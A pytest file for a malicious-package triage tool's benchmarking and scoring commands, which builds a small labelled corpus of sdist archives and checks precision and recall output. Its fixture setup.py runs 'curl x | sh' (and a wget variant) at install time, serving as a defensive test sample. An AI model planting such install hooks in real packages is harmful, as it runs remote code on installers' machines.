"""``triage bench`` / ``triage score`` through typer's CliRunner on a tiny app."""

from __future__ import annotations

import csv
import io
import json
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import pytest
import typer
from typer.testing import CliRunner

from triage import cli_eval
from triage.evaluation import systems
from triage.evaluation.systems import System
from triage.model import ArtifactInfo, Finding, Phase, Report, Source, Verdict

SETUP = "import os\nfrom setuptools import setup\nos.system('curl x | sh')\nsetup(name='p')\n"


def app() -> typer.Typer:
    a = typer.Typer(add_completion=False, pretty_exceptions_enable=False)
    a.command("bench")(cli_eval.bench_cmd)
    a.command("score")(cli_eval.score_cmd)
    return a


def sdist(top: str, text: str) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        data = text.encode()
        info = tarfile.TarInfo(f"{top}/setup.py")
        info.size = len(data)
        tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def corpus(tmp_path: Path) -> Path:
    root = tmp_path / "corpus"
    root.mkdir()
    with zipfile.ZipFile(root / "malicious-t.zip", "w") as zf:
        zf.writestr("malregistry/p/1/p-1.tar.gz", sdist("p-1", SETUP))
        zf.writestr("malregistry/q/1/q-1.tar.gz", sdist("q-1", SETUP.replace("curl", "wget")))
    rows = [{"package": n, "archive": f"{n}/1/{n}-1.tar.gz", "file": f"{n}-1/setup.py",
             "lines": [3], "indicator": "code_execution_shell_command", "note": ""}
            for n in ("p", "q")]
    (root / "labels-t.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    (root / "packages-t.csv").write_text(
        "archive,cluster,added,n_py,py_lines,labelled\n"
        "p/1/p-1.tar.gz,c1,,1,4,1\nq/1/q-1.tar.gz,c2,,1,4,1\n")
    return root


def fake_analyse(data: bytes, filename: str) -> Report:
    top = filename.removesuffix(".tar.gz")
    line = 3 if filename.startswith("p") else 4  # q: wrong statement
    finding = Finding(f"{top}/setup.py", line, line, "", "code_execution_shell_command",
                      "Execution Mechanism", Phase.INSTALL, "high", 0.9, Source.STATIC, "t",
                      f"{top}/setup.py:{line}:0")
    return Report(ArtifactInfo(top, "1", "0" * 64, "sdist", filename),
                  Verdict("malicious", 90.0), (finding,), ())


@pytest.fixture
def fake_systems(monkeypatch: pytest.MonkeyPatch) -> None:
    real = systems.make_system

    def make(spec: str, api_base: str | None = None, llm_db: str | None = None,
             **llm_options: Any) -> System:
        if spec == "fake":
            return System("fake", "static", fake_analyse, 30.0, version="1")
        return real(spec, api_base, llm_db, **llm_options)

    monkeypatch.setattr(systems, "make_system", make)
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)


def test_bench_then_score_offline(tmp_path: Path, fake_systems: None):
    run, out = tmp_path / "run", tmp_path / "out"
    result = CliRunner().invoke(app(), [
        "bench", "--model", "fake", "--model", "llm:gpt-x", "--dataset", str(corpus(tmp_path)),
        "--run", str(run), "--concurrency", "1", "--results", str(out), "--resamples", "100",
    ])
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    fake_row = next(x for x in lines if x.startswith("| fake |"))
    # p hits its labelled statement, q flags another one: P = R = 1/2 over 2 clusters
    assert fake_row.startswith(
        "| fake | 0.50 [0.00, 1.00] | 0.50 [0.00, 1.00] | 0.50 [0.00, 1.00] |"
        " 1.00 [1.00, 1.00] | n/a |")
    assert fake_row.endswith("| - | - | 2/2 | ran |")
    llm_row = next(x for x in lines if x.startswith("| llm:gpt-x |"))
    assert "| 0/2 | not run here: " in llm_row

    with open(out / "results" / "leaderboard.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [(r["system"], r["status"], r["code_precision"], r["code_recall"]) for r in rows] == [
        ("fake", "ran", "0.5000", "0.5000"), ("llm:gpt-x", rows[1]["status"], "", "")]
    md = (out / "RESULTS.md").read_text()
    assert "| fake | 0.50 [0.00, 1.00] |" in md
    assert "![Precision/recall per system](results/precision_recall.png)" in md
    assert (out / "results" / "precision_recall.png").read_bytes()[:4] == b"\x89PNG"
    assert (out / "results" / "indicator_f1.png").read_bytes()[:4] == b"\x89PNG"

    # re-score offline: identical headline row, nothing analysed (the corpus is gone)
    for path in (tmp_path / "corpus").iterdir():
        path.unlink()
    scored = CliRunner().invoke(app(), ["score", str(run), "--resamples", "100",
                                        "--json", str(tmp_path / "scores.json")])
    assert scored.exit_code == 0, scored.output
    assert next(x for x in scored.output.splitlines() if x.startswith("| fake |")) == fake_row
    data = json.loads((tmp_path / "scores.json").read_text())
    assert data["rows"][0]["scores"]["code"]["metrics"]["recall"]["raw"]["value"] == 0.5


def test_score_of_a_missing_run_is_a_usage_error(tmp_path: Path):
    result = CliRunner().invoke(app(), ["score", str(tmp_path / "nothing")])
    assert result.exit_code == 2
    assert "no run at" in result.output


def test_bench_with_a_missing_dataset_fails_cleanly(tmp_path: Path):
    result = CliRunner().invoke(app(), ["bench", "--dataset", str(tmp_path / "none"),
                                        "--run", str(tmp_path / "run")])
    assert result.exit_code == 3
    assert "dataset not found" in result.output
